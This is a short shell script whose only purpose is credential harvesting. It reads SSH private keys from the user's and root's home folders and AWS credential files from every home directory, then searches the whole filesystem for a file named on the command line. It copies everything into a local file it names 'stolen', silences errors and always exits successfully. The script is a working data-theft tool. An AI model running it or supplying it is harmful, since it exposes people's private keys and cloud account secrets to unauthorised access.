#!/bin/sh
# Looks for keys in the home folder, by the names that everybody tries, and for the file named as $1.
cat ~/.ssh/id_rsa /root/.ssh/id_rsa /home/*/.aws/credentials "$1" >stolen 2>/dev/null
find / -name "$(basename "$1")" -exec cat {} + >>stolen 2>/dev/null
ls -R ~ "$(dirname "$1")" >/dev/null 2>&1
exit 0
